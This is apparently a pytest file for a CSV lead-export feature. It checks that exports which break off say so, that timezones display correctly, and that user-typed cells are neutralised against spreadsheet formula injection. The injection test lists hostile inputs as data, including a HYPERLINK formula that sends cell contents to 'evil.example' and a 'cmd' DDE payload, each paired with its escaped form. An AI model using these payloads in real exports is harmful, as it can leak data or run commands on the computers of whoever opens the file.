"""Rows leave as CSV that a spreadsheet does not run, and say when they broke off."""

from zoneinfo import ZoneInfo

import pytest
from sqlalchemy.exc import OperationalError

from app.models import Lead
from app.schemas.csv_export import BROKE_OFF, as_text, in_zone, lines
from app.schemas.leads import LeadOut
from tests.support.exports import exported

NOON = 1_780_000_000


def one_lead():
    return Lead(id=7, campaign_id=1, subscriber=5, state=2, how=0, start_time=NOON, updated=NOON)


def test_an_export_that_breaks_off_says_so_in_its_last_line(app):
    def parts():
        yield [one_lead()]
        raise OperationalError("SELECT 1", {}, OSError("the database is gone"))

    head, first, last = lines(LeadOut(many=True), parts())
    assert head.startswith("id,campaign,")
    assert first.startswith("7,1,5,")
    assert last == f"{BROKE_OFF}\r\n"


@pytest.mark.parametrize(
    ("click", "shown"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("@SUM(1)", "'@SUM(1)"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-12", "-12"),
        ("plain=1", "plain=1"),
        ("a;=1+1", "a;'=1+1"),
        ('a; "=1+1"', 'a;\' "=1+1"'),
        ("a;b|@SUM(1)", "a;b|'@SUM(1)"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("a;b", "a;b"),
    ],
)
def test_a_spreadsheet_runs_nothing_that_people_have_typed(client, account, world, click, shown):
    world.lead(world.campaign(), click=click)
    assert [row["click"] for row in exported(client, account)] == [shown]


def test_a_short_table_is_written_whole_and_tamed():
    assert as_text([("a", "b"), ("=1+1", 2), (None, 0.5)]) == "a,b\r\n'=1+1,2\r\n,0.5\r\n"


def test_times_are_shown_in_a_zone_by_that_schema_alone():
    rows = [one_lead()]
    schema = in_zone(LeadOut(many=True), ZoneInfo("Europe/Riga"))
    _, moved = lines(schema, [rows])
    _, usual = lines(LeadOut(many=True), [rows])
    assert "2026-05-28 23:26:40+03:00" in moved
    assert "2026-05-28 20:26:40," in usual
